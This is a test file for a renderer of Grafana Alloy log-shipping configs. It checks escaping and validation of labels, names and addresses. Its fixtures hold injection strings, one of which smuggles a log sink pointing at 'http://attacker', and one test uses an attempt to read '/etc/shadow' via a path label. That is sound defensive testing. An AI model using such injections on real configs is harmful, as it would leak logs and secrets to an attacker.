import { Lazy } from 'cdktf';
import {
  alloyStatements,
  attr,
  block,
  ref,
  renderAlloy,
  renderAlloyConfig,
  renderAlloyEnvironment,
} from '../../../lib/render/monitoring';
import { Ports } from '../../../lib/core/ports';
import { attrOf, Block, blocks, parseAlloy } from './alloy-parser';

const HOST = {
  environment: 'production',
  hostname: 'aiai-production-orchestrator-1',
  role: 'orchestrator',
  lokiHost: '10.0.1.20',
};

const HOSTILE = [
  'plain',
  'quote " inside',
  'back\\slash',
  'trailing backslash \\',
  'new\nline',
  'carriage\rreturn\ttab',
  '} injected { block',
  '" } loki.write "evil" { endpoint { url = "http://attacker" } } x = "',
  '// not a comment',
  '/* not a comment */',
  '${HOSTNAME} and {{ template }}',
  'nul \u0000 bell \u0007 del \u007f',
  'unicode: é ü ß 日本 🚀',
  'line separator \u2028 paragraph \u2029',
  '',
];

describe('Alloy syntax writer', () => {
  test.each(HOSTILE)('a string value reads back unchanged: %j', (value) => {
    const text = renderAlloy([block('x.y', 'z', [attr('v', value), attr('o', { [value || 'empty']: value, k: [value] })])]);
    const [b] = parseAlloy(text) as Block[];
    expect(b).toMatchObject({ kind: 'block', name: 'x.y', label: 'z' });
    expect(attrOf(b, 'v')).toBe(value);
    expect(attrOf(b, 'o')).toEqual({ [value || 'empty']: value, k: [value] });
    // Exactly one block and two attributes: nothing was injected.
    expect(b.body).toHaveLength(2);
  });

  test('writes every value kind', () => {
    const text = renderAlloy([
      block('a', undefined, [
        attr('s', 's'),
        attr('n', 42),
        attr('f', 1.5),
        attr('t', true),
        attr('no', false),
        attr('nil', null),
        attr('r', ref('loki.write.x.receiver')),
        attr('list', [1, 'two', ref('a.b')]),
        attr('empty', []),
        attr('obj', { ident_key: 1, 'quoted-key': 2, __path__: '/x' }),
        block('inner', undefined, []),
      ]),
    ]);
    const [b] = parseAlloy(text) as Block[];
    expect(Object.fromEntries(b.body.filter((s) => s.kind === 'attribute').map((s: any) => [s.name, s.value]))).toEqual({
      s: 's',
      n: 42,
      f: 1.5,
      t: true,
      no: false,
      nil: null,
      r: { ref: 'loki.write.x.receiver' },
      list: [1, 'two', { ref: 'a.b' }],
      empty: [],
      obj: { ident_key: 1, 'quoted-key': 2, __path__: '/x' },
    });
    expect(text).toContain('"quoted-key" = 2');
    expect(text).toContain('ident_key = 1');
  });

  test('rejects names, labels and references that are not identifiers', () => {
    expect(() => attr('bad-name', 1)).toThrow(/attribute name: got "bad-name"; allowed: a valid Alloy identifier/);
    expect(() => attr('true', 1)).toThrow(/attribute name: got "true"/);
    expect(() => block('loki.write', 'has space', [])).toThrow(/block label: got "has space"; allowed: a valid Alloy identifier/);
    expect(() => block('loki..write', undefined, [])).toThrow(/block name: got ""; allowed: a valid Alloy identifier/);
    expect(() => ref('a.b"; x')).toThrow(/reference: got "b\\"; x"; allowed: a valid Alloy identifier/);
    expect(() => ref('1abc')).toThrow(/reference: got "1abc"; allowed: a valid Alloy identifier/);
  });

  test('rejects values that have no faithful text form', () => {
    expect(() => renderAlloy([attr('n', Number.NaN)])).toThrow(/finite/);
    expect(() => renderAlloy([attr('n', Infinity)])).toThrow(/finite/);
    expect(() => renderAlloy([attr('s', 'lone \ud800 surrogate')])).toThrow(/lone surrogate/);
  });

  test('comments cannot break out of their lines', () => {
    const text = renderAlloy([attr('a', 1)], 'first\nsecond\r\nthird\rfourth');
    expect(text.split('\n').slice(0, 4)).toEqual(['// first', '// second', '// third', '// fourth']);
    expect(parseAlloy(text)).toEqual([{ kind: 'attribute', name: 'a', value: 1 }]);
  });
});

describe('Alloy config of a host', () => {
  const text = renderAlloyConfig(HOST);
  const stmts = parseAlloy(text);

  test('has the components of a journald and file pipeline, in order', () => {
    expect(stmts.map((s) => (s.kind === 'block' ? `${s.name}${s.label ? `/${s.label}` : ''}` : s.name))).toEqual([
      'logging',
      'loki.write/monitoring',
      'loki.relabel/journal',
      'loki.source.journal/journal',
      'local.file_match/aiai',
      'loki.source.file/aiai',
    ]);
  });

  test('ships to Loki on the monitoring host over the private network with host/role/environment labels', () => {
    const [write] = blocks(stmts, 'loki.write');
    const [endpoint] = blocks(write.body, 'endpoint');
    expect(attrOf(endpoint, 'url')).toBe(`http://10.0.1.20:${Ports.loki.port}/loki/api/v1/push`);
    expect(attrOf(write, 'external_labels')).toEqual({
      host: 'aiai-production-orchestrator-1',
      role: 'orchestrator',
      environment: 'production',
      project: 'aiai',
    });
  });

  test('reads the journal (unit and level as labels) and /var/log/aiai/*.log', () => {
    const [journal] = blocks(stmts, 'loki.source.journal');
    expect(attrOf(journal, 'forward_to')).toEqual([{ ref: 'loki.write.monitoring.receiver' }]);
    expect(attrOf(journal, 'relabel_rules')).toEqual({ ref: 'loki.relabel.journal.rules' });
    expect(attrOf(journal, 'labels')).toEqual({ job: 'systemd-journal' });
    const [relabel] = blocks(stmts, 'loki.relabel');
    expect(blocks(relabel.body, 'rule').map((r) => [attrOf(r, 'source_labels'), attrOf(r, 'target_label')])).toEqual([
      [['__journal__systemd_unit'], 'unit'],
      [['__journal_priority_keyword'], 'level'],
    ]);
    const [match] = blocks(stmts, 'local.file_match');
    expect(attrOf(match, 'path_targets')).toEqual([{ __path__: '/var/log/aiai/*.log', job: 'aiai' }]);
    const [file] = blocks(stmts, 'loki.source.file');
    expect(attrOf(file, 'targets')).toEqual({ ref: 'local.file_match.aiai.targets' });
    expect(attrOf(file, 'forward_to')).toEqual([{ ref: 'loki.write.monitoring.receiver' }]);
  });

  test('every reference points at a component the file defines', () => {
    const defined = new Set(stmts.filter((s): s is Block => s.kind === 'block' && !!s.label).map((b) => `${b.name}.${b.label}`));
    const refs: string[] = [];
    const walk = (v: unknown): void => {
      if (Array.isArray(v)) v.forEach(walk);
      else if (v && typeof v === 'object') {
        if ('ref' in v) refs.push((v as { ref: string }).ref);
        else Object.values(v).forEach(walk);
      }
    };
    const visit = (b: Block): void => b.body.forEach((s) => (s.kind === 'attribute' ? walk(s.value) : visit(s)));
    stmts.filter((s): s is Block => s.kind === 'block').forEach(visit);
    expect(refs.length).toBeGreaterThan(3);
    for (const r of refs) {
      const component = r.split('.').slice(0, -1).join('.');
      expect(defined).toContain(component);
    }
  });

  test('hostile extra label values are escaped and read back unchanged', () => {
    const extra = Object.fromEntries(HOSTILE.map((v, i) => [`l${i}`, v]));
    const parsed = parseAlloy(renderAlloyConfig({ ...HOST, extraLabels: extra }));
    const [write] = blocks(parsed, 'loki.write');
    expect(attrOf(write, 'external_labels')).toEqual({ host: HOST.hostname, role: 'orchestrator', environment: 'production', project: 'aiai', ...extra });
    expect(parsed).toHaveLength(6);
  });

  test('the structure matches the statements the renderer built', () => {
    expect(alloyStatements(HOST)).toHaveLength(6);
    expect(text.startsWith('// Generated by aiai-hetzner')).toBe(true);
  });

  test('fails if a label name is not a Loki label name or overrides a built-in label', () => {
    expect(() => renderAlloyConfig({ ...HOST, extraLabels: { 'bad-name': 'x' } })).toThrow(/extraLabels.bad-name: got "bad-name"; allowed: a label name/);
    expect(() => renderAlloyConfig({ ...HOST, extraLabels: { host: 'x' } })).toThrow(/extraLabels.host/);
    expect(() => renderAlloyConfig({ ...HOST, extraLabels: { __path__: '/etc/shadow' } })).toThrow(/extraLabels.__path__/);
  });

  test('fails if host, role, environment or the Loki address are invalid', () => {
    expect(() => renderAlloyConfig({ ...HOST, hostname: 'Host "1"' })).toThrow(/hostname: got "Host \\"1\\""/);
    expect(() => renderAlloyConfig({ ...HOST, role: 'a role' })).toThrow(/role: got "a role"/);
    expect(() => renderAlloyConfig({ ...HOST, environment: 'prod"}' })).toThrow(/environment: got "prod\\"}"/);
    expect(() => renderAlloyConfig({ ...HOST, lokiHost: 'loki.internal' })).toThrow(/lokiHost: got "loki.internal"; allowed: the private IPv4/);
    expect(() => renderAlloyConfig({ ...HOST, lokiHost: Lazy.stringValue({ produce: () => '10.0.1.20' }) })).toThrow(/lokiHost: .*allowed: a literal value/);
  });

  test('/etc/default/alloy points at the config and keeps Alloy on loopback', () => {
    expect(renderAlloyEnvironment()).toBe(
      [
        '# Generated by aiai-hetzner (lib/render/monitoring). Read by alloy.service.',
        'CONFIG_FILE="/etc/alloy/config.alloy"',
        `CUSTOM_ARGS="--server.http.listen-addr=127.0.0.1:${Ports.alloy.port} --disable-reporting"`,
        'RESTART_ON_UPGRADE=true',
        '',
      ].join('\n'),
    );
    expect(() => renderAlloyEnvironment('/etc/alloy/x" y')).toThrow(/configFile: got .*; allowed: a valid Alloy config path/);
  });
});
